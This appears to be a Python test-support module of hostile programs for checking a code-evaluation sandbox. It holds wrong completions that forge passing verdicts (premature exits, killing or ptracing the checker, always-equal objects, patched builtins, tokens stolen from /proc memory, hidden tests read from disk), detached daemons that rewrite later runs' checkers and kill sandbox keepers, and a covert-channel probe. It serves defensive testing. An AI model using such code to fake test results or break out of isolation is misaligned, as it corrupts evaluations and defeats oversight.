"""Hostile programs for checking a sandbox backend: run them through ``Sandbox.run`` and decide on the
host whether the backend held.

Shared by the adversarial tests (``tests/test_sandbox_adversarial.py``) and the attack x backend table
(``benchmarks/sandbox_attacks.py``), so both measure the same attack.
"""

from __future__ import annotations

import os

__all__ = ["tree_memory", "VERDICT_FORGERIES", "forgeries", "LEFTOVER_NAME", "FORGED_CHECKER", "CROSS_RUN_ATTACKS",
           "cross_run_attacks", "concurrent_attack", "leftovers", "kill_leftovers", "PLANT_KINDS", "PLANT_AND_LOOK", "planted_bytes_seen",
           "unprivileged_python", "CONVERTED_MARK", "EQUAL_VALUE_REWRITES", "rewrite_to_other_type"]


def tree_memory(block_mb: int, children: int = 12, wait_s: float = 8) -> str:
    """A Python program that forks ``children`` processes, each touching ``block_mb`` MB and then sleeping.

    A memory limit per process (``RLIMIT_AS``) lets every child through; a limit on the whole tree
    (a cgroup) kills them. After up to ``wait_s`` seconds of waiting for the children to report, the
    program prints how many of those that reported are still alive, i.e. held their block at once.
    """
    return f"""
import os, select, sys, time
r, w = os.pipe()
pids = []
for index in range({children}):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray({block_mb} << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            os.write(w, bytes([index]))
            time.sleep(30)
        finally:
            os._exit(0)
    pids.append(pid)
os.close(w)
reported, deadline = set(), time.time() + {wait_s}
while len(reported) < {children} and time.time() < deadline:
    if select.select([r], [], [], 0.2)[0]:
        got = os.read(r, 64)
        if not got:
            break
        reported.update(got)
alive = [i for i in reported if os.waitpid(pids[i], os.WNOHANG) == (0, 0)]
print(len(alive), flush=True)
"""


# ---- candidates that try to forge a verdict --------------------------------------------------------
# Each is a completion for a function-completion task (HumanEval's convention): ``ENTRY`` stands for the
# entry point's name (``forgeries(entry_point)``). Every one is wrong (it returns nothing useful) and
# tries to make the tests look passed anyway. A checker holds when all of them are labelled incorrect.

_EXITS = {
    "sys.exit(0) at import": "import sys\ndef ENTRY(*args, **kwargs):\n    return None\nsys.exit(0)\n",
    "sys.exit(0) in the call": "import sys\ndef ENTRY(*args, **kwargs):\n    sys.exit(0)\n",
    "raise SystemExit (no code) in the call": "def ENTRY(*args, **kwargs):\n    raise SystemExit\n",
    "exit() builtin in the call": "def ENTRY(*args, **kwargs):\n    exit()\n",
    "quit(0) at import": "def ENTRY(*args, **kwargs):\n    return None\nquit(0)\n",
    "os._exit(0) at import": "import os\ndef ENTRY(*args, **kwargs):\n    return None\nos._exit(0)\n",
    "os._exit(0) in the call": "import os\ndef ENTRY(*args, **kwargs):\n    os._exit(0)\n",
    "exec /bin/true in the call": "import os\ndef ENTRY(*args, **kwargs):\n    os.execv('/bin/true', ['true'])\n",
    "exec a fresh interpreter that exits 0": ("import os, sys\ndef ENTRY(*args, **kwargs):\n"
                                             "    os.execv(sys.executable, [sys.executable, '-c', 'pass'])\n"),
    "atexit hook calls os._exit(0)": "import atexit, os\natexit.register(os._exit, 0)\ndef ENTRY(*args, **kwargs):\n"
                                     "    return None\n",
    "SystemExit(0) raised in an atexit hook": "import atexit, sys\natexit.register(sys.exit, 0)\n"
                                              "def ENTRY(*args, **kwargs):\n    return None\n",
    "excepthook exits 0 on the failed assert": "import os, sys\nsys.excepthook = lambda *exc: os._exit(0)\n"
                                               "def ENTRY(*args, **kwargs):\n    return None\n",
    "a thread exits 0 mid-test": ("import os, threading, time\ndef _bail():\n    time.sleep(0.05)\n    os._exit(0)\n"
                                  "threading.Thread(target=_bail, daemon=True).start()\n"
                                  "def ENTRY(*args, **kwargs):\n    time.sleep(0.3)\n    return None\n"),
    "SIGALRM handler exits 0 mid-test": ("import os, signal, time\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(0))\n"
                                         "signal.setitimer(signal.ITIMER_REAL, 0.05)\n"
                                         "def ENTRY(*args, **kwargs):\n    time.sleep(0.3)\n    return None\n"),
    "fork: the parent exits 0, the child runs on": ("import os\nif os.fork():\n    os._exit(0)\n"
                                                     "def ENTRY(*args, **kwargs):\n    return None\n"),
}

_TAMPERING = {
    "kill the parent (the checker)": ("import os, signal\ndef ENTRY(*args, **kwargs):\n"
                                      "    os.kill(os.getppid(), signal.SIGKILL)\n    return None\n"),
    "kill every process of the uid, exit 0": ("import os, signal\ndef ENTRY(*args, **kwargs):\n    try:\n"
                                              "        os.kill(-1, signal.SIGKILL)\n    finally:\n        os._exit(0)\n"),
    "stop the checker, exit 0": ("import os, signal\ndef ENTRY(*args, **kwargs):\n"
                                 "    os.kill(os.getppid(), signal.SIGSTOP)\n    os._exit(0)\n"),
    "ptrace the checker and write its memory": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "def ENTRY(*args, **kwargs):\n    parent = os.getppid()\n"
        "    if libc.ptrace(16, parent, None, None) == 0:  # PTRACE_ATTACH: would own the checker\n"
        "        os._exit(0)\n"
        "    try:\n        with open(f'/proc/{parent}/mem', 'r+b') as mem:\n            os._exit(0)\n"
        "    except OSError:\n        return None\n"),
    "return an object equal to everything": (
        "class _Anything:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n"
        "        return False\n    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n    def __bool__(self):\n        return True\n"
        "    def __sub__(self, other):\n        return self\n    __rsub__ = __add__ = __radd__ = __sub__\n"
        "    def __abs__(self):\n        return 0\n    def __hash__(self):\n        return 0\n"
        "def ENTRY(*args, **kwargs):\n    return _Anything()\n"),
    "an always-equal number of the numeric tower (Integral, Real, Fraction)": (
        "import fractions, numbers\nclass _Liar(fractions.Fraction):\n    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
        "    def __sub__(self, other):\n        return _Liar(0)\n    __rsub__ = __add__ = __sub__\n"
        "    def __abs__(self):\n        return _Liar(0)\n    def __hash__(self):\n        return 0\n"
        "numbers.Integral.register(_Liar)\n"
        "def ENTRY(*args, **kwargs):\n    return _Liar(1, 3)\n"),
    "an always-equal sequence and mapping (UserList, Mapping)": (
        "import collections, collections.abc\nclass _Seq(collections.UserList):\n    def __eq__(self, other):\n"
        "        return True\n    def __len__(self):\n        return 10 ** 6\n"
        "class _Map(collections.abc.Mapping):\n    def __getitem__(self, key):\n        return self\n"
        "    def __iter__(self):\n        return iter(())\n    def __len__(self):\n        return 0\n"
        "    def __eq__(self, other):\n        return True\n"
        "def ENTRY(*args, **kwargs):\n    return _Seq([_Map()]) if args and isinstance(args[0], list) else _Map()\n"),
    "a value posing as numpy whose tolist() lies": (
        "class _Fake:\n    __module__ = 'numpy'\n    def tolist(self):\n        return self\n"
        "    def __eq__(self, other):\n        return True\n"
        "def ENTRY(*args, **kwargs):\n    return _Fake()\n"),
    "patch builtins (abs, all, any, isinstance, len)": (
        "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.all = lambda *a: True\nbuiltins.any = lambda *a: True\n"
        "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\nclass _E:\n    def __eq__(self, o):\n"
        "        return True\n    def __sub__(self, o):\n        return self\ndef ENTRY(*args, **kwargs):\n    return _E()\n"),
    "trace hook jumps over every assert": (
        "import linecache, sys\ndef _skip(frame, event, arg):\n"
        "    if event == 'line' and linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip().startswith('assert'):\n"
        "        try:\n            frame.f_lineno = frame.f_lineno + 1\n        except ValueError:\n            pass\n"
        "    return _skip\nsys.settrace(_skip)\ndef ENTRY(*args, **kwargs):\n    return None\n"),
    "define a check() that passes": "def check(candidate):\n    return True\ndef ENTRY(*args, **kwargs):\n    return None\n",
    "patch AssertionError and unittest's asserts": (
        "import builtins, unittest\nbuiltins.AssertionError = type('AssertionError', (BaseException,), {})\n"
        "for name in dir(unittest.TestCase):\n    if name.startswith('assert'):\n"
        "        setattr(unittest.TestCase, name, lambda *a, **k: None)\n"
        "def ENTRY(*args, **kwargs):\n    return None\n"),
}

_TOKENS = {
    "write 'passed' to every fd and the checker's stdout": (
        "import os\ndef ENTRY(*args, **kwargs):\n    for fd in range(64):\n        try:\n"
        "            os.write(fd, b'passed\\nOK\\n')\n        except OSError:\n            pass\n"
        "    for path in (f'/proc/{os.getppid()}/fd/1', '/proc/1/fd/1'):\n        try:\n"
        "            with open(path, 'w') as out:\n                out.write('passed\\n')\n        except OSError:\n"
        "            pass\n    os._exit(0)\n"),
    "print 2000 guessed tokens": (
        "import os, secrets, uuid, sys\ndef ENTRY(*args, **kwargs):\n    for _ in range(1000):\n"
        "        print(secrets.token_hex(16), 'passed')\n        print(secrets.token_hex(32), 'passed')\n"
        "        print(uuid.uuid4().hex, 'passed', file=sys.stderr)\n"
        "    sys.stdout.flush()\n    os._exit(0)\n"),
    "print tokens read from env, /proc and inherited fds": (
        "import glob, os, re, sys\nHEX = re.compile(rb'[0-9a-f]{32}')\n"
        "def _grab(path):\n    try:\n        with open(path, 'rb') as handle:\n            return handle.read(1 << 20)\n"
        "    except OSError:\n        return b''\n"
        "def ENTRY(*args, **kwargs):\n    seen = repr(dict(os.environ)).encode()\n"
        "    where = os.environ.get('MONKEYBARREL_SEALED', '')\n"
        "    if where.startswith('file:'):\n        seen += _grab(where[5:])\n"
        "    for pattern in ('/proc/self/environ', '/proc/*/environ', '/proc/*/cmdline', '/proc/*/fd/*', '/.sandbox-out/*',\n"
        "                    '/.sandbox-in/*', '/tmp/*', '*', '../*'):\n        for path in glob.glob(pattern):\n"
        "            seen += _grab(path)\n    for fd in range(3, 64):\n        try:\n            seen += os.pread(fd, 1 << 20, 0)\n"
        "        except OSError:\n            pass\n    for token in sorted(set(HEX.findall(seen))):\n"
        "        os.write(1, token + b' passed\\n')\n    os._exit(0)\n"),
    "print tokens found in its own and the checker's memory": (
        "import gc, os, re\nHEX = re.compile(rb'[0-9a-f]{32}')\n"
        "def _scan(pid):\n    found = set()\n    try:\n        maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
        "        with open(f'/proc/{pid}/mem', 'rb') as mem:\n            for line in maps:\n"
        "                span, perms = line.split()[:2]\n                if 'r' not in perms:\n                    continue\n"
        "                start, end = (int(x, 16) for x in span.split('-'))\n                try:\n"
        "                    mem.seek(start)\n                    found.update(HEX.findall(mem.read(min(end - start, 64 << 20))))\n"
        "                except (OSError, OverflowError, ValueError):\n                    pass\n    except OSError:\n        pass\n"
        "    return found\n"
        "def ENTRY(*args, **kwargs):\n    found = _scan('self') | _scan(os.getppid()) | _scan(1)\n"
        "    found |= {o.encode() for o in gc.get_objects() if isinstance(o, str) and HEX.fullmatch(o.encode())}\n"
        "    for token in sorted(found)[:20000]:\n        os.write(1, token + b' passed\\n')\n    os._exit(0)\n"),
    "answer from the hidden tests read on disk": (
        "import ast, glob, os\nANSWERS = {}\n"
        "for path in glob.glob('*') + glob.glob('../*') + glob.glob('/tmp/*'):\n    try:\n        tree = ast.parse(open(path).read())\n"
        "    except (OSError, SyntaxError, ValueError, UnicodeDecodeError):\n        continue\n"
        "    for node in ast.walk(tree):\n        if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call) and len(node.comparators) == 1:\n"
        "            try:\n                key = repr([ast.literal_eval(a) for a in node.left.args])\n"
        "                ANSWERS[key] = ast.literal_eval(node.comparators[0])\n            except ValueError:\n                pass\n"
        "def ENTRY(*args, **kwargs):\n    return ANSWERS.get(repr(list(args)))\n"),
}

VERDICT_FORGERIES = {**_EXITS, **_TAMPERING, **_TOKENS}
"""Name -> completion text (``ENTRY`` = the entry point): wrong candidates that try to forge a pass."""


def forgeries(entry_point: str) -> dict[str, str]:
    """``VERDICT_FORGERIES`` for a task whose function is ``entry_point`` (each as a fenced completion)."""
    return {name: "```python\n" + code.replace("ENTRY", entry_point) + "```" for name, code in VERDICT_FORGERIES.items()}


# ---- candidates that attack *later* runs -----------------------------------------------------------
# Each is a wrong completion (``ENTRY`` returns None) whose module, once loaded by the checker's
# candidate process, tries to make runs that come after it (or run beside it) pass: a process left
# behind that rewrites their ``checker.py`` or steals their sealed token through ``/proc`` and writes
# the attested line into their stdout. A sandbox holds when every later wrong candidate is still judged
# wrong and nothing named ``LEFTOVER_NAME`` is alive once the attacking run has ended.

LEFTOVER_NAME = "mb-left-" + os.urandom(4).hex()[:7]
"""The process name (``/proc/<pid>/comm``, 15 characters at most) the attacks' processes give themselves, so a
host can count them: ``mb-left-`` and 7 hex digits drawn when this module is loaded, so that a process counts
(and kills) only what its own attacks left, never the processes of another test or benchmark run beside it
(alive, as they should be, while that run's own attacking run lasts)."""

FORGED_CHECKER = (
    "# forged by an earlier run\nimport hashlib, hmac, os\n"
    "kind, _, ref = os.environ.get('MONKEYBARREL_SEALED', '').partition(':')\n"
    "data = os.pread(int(ref), 1 << 16, 0) if kind == 'fd' else open(ref, 'rb').read() if kind == 'file' else b''\n"
    "token = data.partition(b'\\n')[0]\n"
    "os.write(1, ('\\n' + hmac.new(token, b'passed', hashlib.sha256).hexdigest() + ' passed\\n').encode())\n")
"""What a leftover writes over a later run's ``checker.py``: as that run's first reader it takes the real
token and attests ``passed`` without running a test."""

_CROSS_RUN_TOOLS = '''
import ctypes, glob, hashlib, hmac, os, re, signal, sys, time
FORGED = FORGED_SOURCE
def _name():
    try:
        ctypes.CDLL(None).prctl(15, b"LEFTOVER", 0, 0, 0)  # PR_SET_NAME: how the host counts us
    except Exception:
        pass
NEAR = os.path.dirname(os.getcwd())
def _places(everywhere):
    """Where later runs' files may be: next to this run's directory (cheap, every time), or everywhere."""
    dirs = set(os.path.join(NEAR, name) for name in os.listdir(NEAR)) if os.access(NEAR, os.R_OK) else set()
    if not everywhere:
        return dirs
    for pattern in ("../*/*", "/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/var/tmp/*", "/dev/shm/*", "/work", "/work/*",
                    os.path.expanduser("~"), os.path.expanduser("~/*")):
        dirs.update(glob.glob(pattern))
    for link in glob.glob("/proc/[0-9]*/cwd"):
        try:
            dirs.add(os.readlink(link))
        except OSError:
            pass
    return dirs
def _rewrite(everywhere=True):
    for place in _places(everywhere):
        path = os.path.join(place, "checker.py")
        try:
            with open(path, "rb") as handle:
                if b"forged by an earlier run" in handle.read(64):
                    continue
            with open(path, "w") as handle:
                handle.write(FORGED)
        except OSError:
            pass
def _steal():
    for environ in glob.glob("/proc/[0-9]*/environ"):
        pid = environ.split("/")[2]
        try:
            found = re.search(rb"MONKEYBARREL_SEALED=fd:([0-9]+)", open(environ, "rb").read())
            if not found or int(pid) == os.getpid():
                continue
            token = open(f"/proc/{pid}/fd/{found.group(1).decode()}", "rb").read(64).partition(b"\\n")[0]
            if len(token) != 32:
                continue
            line = "\\n" + hmac.new(token, b"passed", hashlib.sha256).hexdigest() + " passed\\n"
            out = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
            os.write(out, line.encode())
            os.close(out)
        except (OSError, ValueError):
            pass
def _haunt(seconds, hop=False, acts="rs"):
    """Rewrite (r) and steal (s) for ``seconds``; with ``hop``, as a new process every 20 ms (a moving target)."""
    _name()
    deadline = time.time() + seconds
    hopped, rounds = time.time(), 0
    while time.time() < deadline:
        rounds += 1
        if "r" in acts:
            _rewrite(everywhere=rounds % 20 == 0)
        if "s" in acts:
            _steal()
        if hop and time.time() - hopped > 0.02:
            if os.fork():
                os._exit(0)
            hopped = time.time()
        time.sleep(0.0005)
def _detach(seconds, hop=False, acts="rs"):
    """A daemon: double fork, new session, no stdio (the run ends without waiting for it)."""
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in range(3):
                os.dup2(null, fd)
            os.closerange(3, 4096)
            try:
                _haunt(seconds, hop, acts)
            finally:
                os._exit(0)
        os._exit(0)
def _kill_keepers():
    """SIGKILL every ancestor of this uid up to the caller (the sandbox's own wrappers, keepers, reapers)."""
    pid, uid = os.getppid(), os.getuid()
    while pid > 1:
        try:
            stat = open(f"/proc/{pid}/stat").read()
            parent = int(stat[stat.rindex(")") + 2:].split()[1])
            command = open(f"/proc/{pid}/cmdline", "rb").read()
            if os.stat(f"/proc/{pid}").st_uid != uid or b"CALLER_MARK" in command:
                return
            if not b"checker.py" in command:
                os.kill(pid, signal.SIGKILL)
        except (OSError, ValueError):
            return
        pid = parent
'''


def _cross_run_code(body: str, caller_mark: str) -> str:
    tools = (_CROSS_RUN_TOOLS.replace("FORGED_SOURCE", repr(FORGED_CHECKER)).replace("LEFTOVER", LEFTOVER_NAME)
             .replace("CALLER_MARK", caller_mark))
    return tools + body + "def ENTRY(*args, **kwargs):\n    return None\n"


CROSS_RUN_ATTACKS = {
    "a daemon rewrites later runs' checker.py": "_detach(SECONDS, acts='r')\n",
    "a daemon steals later runs' sealed tokens through /proc": "_detach(SECONDS, acts='s')\n",
    "a daemon that re-forks every 20 ms (outruns kills by pid)": "_detach(SECONDS, hop=True)\n",
    "kill the sandbox's keepers and wrappers, then a daemon": "_detach(SECONDS)\ntime.sleep(0.05)\n_kill_keepers()\n",
    "a stopped daemon, resumed by a timer child": (
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        _name()\n"
        "        os.kill(os.getpid(), signal.SIGSTOP)\n        _haunt(SECONDS)\n        os._exit(0)\n"
        "    time.sleep(0.05)\n    os._exit(0)\n"
        "for pid in [int(p.split('/')[2]) for p in glob.glob('/proc/[0-9]*/comm')\n"
        "            if open(p).read().strip() == 'LEFTOVER']:\n"
        "    if os.fork() == 0:\n        os.setsid()\n        _name()\n        time.sleep(0.5)\n"
        "        os.kill(pid, signal.SIGCONT)\n        _haunt(SECONDS)\n        os._exit(0)\n"),
}
"""Name -> module code run at import by the attacking candidate (``SECONDS``: how long its processes try)."""

CONCURRENT_ATTACK = "_haunt(SECONDS)\n"
"""The same attacks from a run that is still going: it rewrites and steals while other runs run beside it."""


def leftovers() -> list[int]:
    """Pids of the running processes this process's cross-run attacks left (they name themselves
    ``LEFTOVER_NAME``; a killed one that its parent has not collected yet has ended: not counted)."""
    from monkeybarrel.sandbox.cgroups import running  # absolute: this file is also loaded by path

    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/comm") as comm:
                    if comm.read().strip() != LEFTOVER_NAME:
                        continue
            except OSError:
                continue
            if running(int(name)):
                found.append(int(name))
    return found


def kill_leftovers() -> None:
    """SIGKILL what the cross-run attacks left (a benchmark's or test's own clean-up between attacks)."""
    from monkeybarrel.sandbox.cgroups import kill_until_gone  # absolute: this file is also loaded by path

    kill_until_gone(leftovers, patience_s=10.0)


def cross_run_attacks(entry_point: str, seconds: float = 20.0, caller_mark: str = "sandbox_attacks") -> dict[str, str]:
    """``CROSS_RUN_ATTACKS`` as completions for ``entry_point`` (processes that try for ``seconds``);
    ``caller_mark``: a word of the caller's command line where ``_kill_keepers`` stops."""
    return {name: _cross_run_code(body.replace("SECONDS", repr(seconds)).replace("LEFTOVER", LEFTOVER_NAME),
                                  caller_mark).replace("ENTRY", entry_point)
            for name, body in CROSS_RUN_ATTACKS.items()}


def concurrent_attack(entry_point: str, seconds: float = 4.0) -> str:
    """A completion whose module rewrites and steals for ``seconds`` while its own run lasts."""
    return _cross_run_code(CONCURRENT_ATTACK.replace("SECONDS", repr(seconds)), "-").replace("ENTRY", entry_point)


# ---- data one run leaves for a later one ----------------------------------------------------------
# ``PLANT_AND_LOOK`` is one program: ``main.py TOKEN plant`` leaves the token (and data beside it) in
# every way it can find, ``main.py TOKEN look`` reports, as one JSON line, everything it can see that
# carries the token, and the state a plant could encode data in. The host compares a look after a
# plant with a look in a clean sandbox (``planted_bytes_seen``): 0 means nothing crossed.

PLANT_KINDS = ("file", "named-file", "directory", "symlink-to-dir", "symlink-outward", "dangling-symlink", "hard-link",
               "fifo", "socket", "deep-tree", "unreadable-dir", "read-only-dir", "mode-000-file", "many-files",
               "xattr", "place-mode", "place-times", "place-xattr", "posix-mq", "sysv-ipc", "keyring", "tcp-time-wait",
               "abstract-socket", "pid-counter")
"""Every kind of plant ``PLANT_AND_LOOK`` tries (a kind not possible somewhere is simply not planted)."""

PLANT_AND_LOOK = r'''
import ctypes, json, os, socket, stat, sys, time
token, mode = sys.argv[1], sys.argv[2]
DATA = token * 8
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PLACES = sorted({os.getcwd(), "/tmp", "/var/tmp", "/run", "/dev/shm", "/dev", "/dev/mqueue", "/var", "/",
                 os.path.expanduser("~"), os.path.dirname(os.getcwd()), "/run/lock"})
PORT = 20000 + int(token[:4], 16) % 20000
DEPTH, LEVEL = 300, "deeper-than-path-max"  # 6300 characters: more than PATH_MAX
FORKS = (int(token[:2], 16) + 16) * 4

def attempt(function, *args):
    try:
        return function(*args)
    except Exception:
        return None

def plant_in(place):
    os.chdir(place)
    name = lambda kind: f"{token}-{kind}"
    attempt(lambda: open(name("file"), "w").write(DATA))
    attempt(lambda: open(f"{token}-named-{DATA[:150]}", "w").close())
    attempt(os.mkdir, name("directory"))
    attempt(lambda: open(os.path.join(name("directory"), "inside"), "w").write(DATA))
    attempt(os.symlink, name("directory"), name("symlink-to-dir"))
    attempt(os.symlink, "/usr", name("symlink-outward"))
    attempt(os.symlink, f"/nowhere/{DATA}", name("dangling-symlink"))
    attempt(os.link, name("file"), name("hard-link"))
    attempt(os.mkfifo, name("fifo"))
    sock = attempt(socket.socket, socket.AF_UNIX)
    if sock is not None:
        attempt(sock.bind, name("socket"))
    if attempt(os.mkdir, name("deep-tree")) is None and os.path.isdir(name("deep-tree")):
        here = os.open(".", os.O_RDONLY)
        os.chdir(name("deep-tree"))
        for _ in range(DEPTH):
            if attempt(os.mkdir, LEVEL) is not None or not os.path.isdir(LEVEL):
                break
            os.chdir(LEVEL)
        attempt(lambda: open("leaf", "w").write(DATA))
        os.fchdir(here)
        os.close(here)
    for kind, mode_bits in (("unreadable-dir", 0), ("read-only-dir", 0o500)):
        if attempt(os.mkdir, name(kind)) is None and os.path.isdir(name(kind)):
            attempt(lambda: open(os.path.join(name(kind), "inside"), "w").write(DATA))
            attempt(os.chmod, name(kind), mode_bits)
    if attempt(lambda: open(name("mode-000-file"), "w").write(DATA)) is not None:
        attempt(os.chmod, name("mode-000-file"), 0)
    if attempt(os.mkdir, name("many-files")) is None and os.path.isdir(name("many-files")):
        for i in range(300):
            if attempt(lambda: open(os.path.join(name("many-files"), f"{i}-{token}"), "w").close()) is None:
                break
    attempt(os.setxattr, name("file"), "user.mb", DATA.encode())
    attempt(os.setxattr, ".", "user.mb", DATA.encode())
    attempt(os.utime, ".", (int(token[:6], 16), int(token[:6], 16)))
    attempt(os.chmod, ".", 0o1751)

def plant():
    for place in PLACES:
        attempt(plant_in, place)
    mq = attempt(lambda: ctypes.CDLL("librt.so.1", use_errno=True))
    if mq is not None:
        attempt(mq.mq_open, f"/{token}".encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
    key = int(token[:7], 16)
    attempt(libc.shmget, key, 4096, 0o1600)
    attempt(libc.semget, key, 1, 0o1600)
    attempt(libc.msgget, key, 0o1600)
    for ring in (-3, -4, -5):  # session, user, user-session keyrings
        libc.syscall(248, b"user", f"mb-{token}".encode(), DATA.encode(), len(DATA), ctypes.c_long(ring))
    persistent = libc.syscall(250, 22, ctypes.c_long(-1), ctypes.c_long(-3))  # KEYCTL_GET_PERSISTENT
    if persistent > 0:
        libc.syscall(248, b"user", f"mb-{token}-p".encode(), DATA.encode(), len(DATA), ctypes.c_long(persistent))
    server = attempt(socket.socket)
    if server is not None and attempt(server.bind, ("127.0.0.1", PORT)) is None:
        server.listen(1)
        client = socket.create_connection(("127.0.0.1", PORT))
        accepted = server.accept()[0]
        client.close()  # the side that closes first keeps the connection in TIME_WAIT
        accepted.close()
    for _ in range(FORKS):  # the next pid, if pids are shared, says how many forks ran
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
    abstract = attempt(socket.socket, socket.AF_UNIX)
    if abstract is not None and attempt(abstract.bind, f"\0{token}-abstract") is None and os.fork() == 0:
        os.setsid()
        time.sleep(30)  # a holder for the abstract name: should die with the run
        os._exit(0)
    print("planted")

def walk(place):
    """Every entry under ``place`` (without following links, through unreadable dirs when the mode allows)."""
    found, stack = [], [""]
    base = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    while stack:
        rel = stack.pop()
        try:
            os.fchdir(base)
            if rel:
                for part in rel.split("/"):
                    os.chdir(part)
            names = os.listdir(".")
        except OSError:
            continue
        for entry in names:
            path = f"{rel}/{entry}" if rel else entry
            if len(found) > 2000:
                return found
            try:
                info = os.lstat(entry)
            except OSError:
                continue
            content = b""
            if stat.S_ISREG(info.st_mode):
                content = attempt(lambda: open(entry, "rb").read(256)) or b""
            elif stat.S_ISLNK(info.st_mode):
                content = (attempt(os.readlink, entry) or "").encode()
            found.append([path if len(path) < 300 else path[:100] + "..." + path[-200:],
                          content.decode(errors="replace")])
            if stat.S_ISDIR(info.st_mode) and place + "/" + path not in PLACES and not (place == "/" and rel == ""):
                stack.append(path)
    os.close(base)
    return found

def look():
    report = {"entries": {}, "meta": {}}
    for place in PLACES:
        if place == "/":
            continue  # the read-only root: its own entries are the view's; new ones show up as places
        report["entries"][place] = attempt(walk, place) or []
        info = attempt(os.stat, place)
        xattr = attempt(os.getxattr, place, "user.mb")
        report["meta"][place] = None if info is None else [oct(info.st_mode), int(info.st_mtime), int(info.st_atime),
                                                            (xattr or b"").decode(errors="replace")]
    report["mq"] = sorted(attempt(os.listdir, "/dev/mqueue") or [])
    report["sysv"] = [line.split()[0] for kind in ("shm", "sem", "msg")
                      for line in (attempt(lambda: open(f"/proc/sysvipc/{kind}").read().splitlines()[1:]) or [])]
    report["keys"] = attempt(lambda: open("/proc/keys").read().splitlines()) or []
    lines = lambda path: attempt(lambda: open(path).read().splitlines()[1:]) or []
    report["tcp"] = [line.split()[1:3] for line in lines("/proc/net/tcp")]
    report["unix"] = [line.split()[-1] for line in lines("/proc/net/unix") if len(line.split()) > 7]
    report["pid"] = os.getpid()
    print(json.dumps(report))

plant() if mode == "plant" else look()
'''
"""``python3 main.py TOKEN plant|look`` (see above)."""


def planted_bytes_seen(clean: dict, after: dict, token: str) -> dict[str, int]:
    """``{plant kind: bytes of planted data a later look saw}`` from two ``PLANT_AND_LOOK`` reports (a
    look in a clean sandbox and one after a plant); empty when nothing crossed. Bytes are what carried
    the token: names, contents, link targets, attribute values, key descriptions; a changed mode or
    time of a place counts its field (2 bytes), a port 2 bytes, a shifted pid 2 bytes."""
    seen: dict[str, int] = {}

    def add(kind: str, count: int) -> None:
        if count > 0:
            seen[kind] = seen.get(kind, 0) + count

    for place, entries in after.get("entries", {}).items():
        before = {path for path, _ in clean.get("entries", {}).get(place, [])}
        for path, content in entries:
            if path in before and token not in content:
                continue
            kind = next((k for k in PLANT_KINDS if f"{token}-{k}" in path), "file" if token in path + content else "")
            if kind:
                add(kind, path.count(token) * len(token) + content.count(token) * len(token) or len(path))
    for place, meta in after.get("meta", {}).items():
        old = clean.get("meta", {}).get(place)
        if meta is None or old is None:
            continue
        for index, kind in ((0, "place-mode"), (1, "place-times"), (2, "place-times")):
            if meta[index] != old[index] and (index == 0 or str(int(token[:6], 16)) == str(meta[index])):
                add(kind, 2)
        if token in meta[3]:
            add("place-xattr", len(meta[3]))
    add("posix-mq", sum(len(name) for name in after.get("mq", []) if token in name))
    key = int(token[:7], 16)
    add("sysv-ipc", 4 * sum(1 for k in after.get("sysv", []) if k.lstrip("-").isdigit() and int(k) == key))
    add("keyring", sum(len(line) for line in after.get("keys", []) if token in line))
    port = f"{20000 + int(token[:4], 16) % 20000:04X}"
    add("tcp-time-wait", 2 * sum(1 for ends in after.get("tcp", []) if any(a.endswith(":" + port) for a in ends)))
    add("abstract-socket", sum(len(name) for name in after.get("unix", []) if token in name))
    if after.get("pid", 0) - clean.get("pid", 0) >= (int(token[:2], 16) + 16) * 4:
        add("pid-counter", 2)
    return seen


def unprivileged_python(uid: int) -> tuple[list[str], dict[str, str]] | str:
    """How to run this interpreter's code as ``uid`` (no groups, no capabilities): ``(argv prefix, env)``
    for ``subprocess``, or why not. Tries this interpreter, then ``/usr/bin/python3`` of the same
    version with this process's ``sys.path`` (a venv whose base interpreter ``uid`` cannot reach)."""
    import os
    import shutil
    import subprocess
    import sys

    setpriv = shutil.which("setpriv")
    if os.geteuid() != 0 or setpriv is None:
        return "needs root and setpriv to run as another uid"
    prefix = [setpriv, f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--"]
    import importlib.util

    package = importlib.util.find_spec("monkeybarrel").submodule_search_locations[0]  # the one in use
    package_root = os.path.dirname(os.path.abspath(package))
    stdlib = os.path.realpath(sys.base_prefix)
    paths = [package_root] + [p for p in sys.path if p and os.path.isdir(p)
                              and not os.path.realpath(p).startswith(stdlib + os.sep)]  # another interpreter's own
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8", "HOME": "/tmp",
           "PYTHONPATH": os.pathsep.join(dict.fromkeys(paths))}
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    candidates = [sys.executable, shutil.which(f"python{version}") or "", "/usr/bin/python3"]
    for interpreter in dict.fromkeys(os.path.realpath(c) for c in candidates if c):  # the helpers run it resolved
        code = f"import sys, monkeybarrel.sandbox.local; assert sys.version.startswith('{version}')"
        probe = subprocess.run([*prefix, "/bin/sh", "-c", 'exec "$0" -c "$1"', interpreter, code],  # as a chain execs
                               env=env, cwd="/", capture_output=True, timeout=120)
        if probe.returncode == 0:
            return [*prefix, interpreter], env
    return (f"uid {uid} cannot run a Python {version} that imports this checkout (its path or the venv's base "
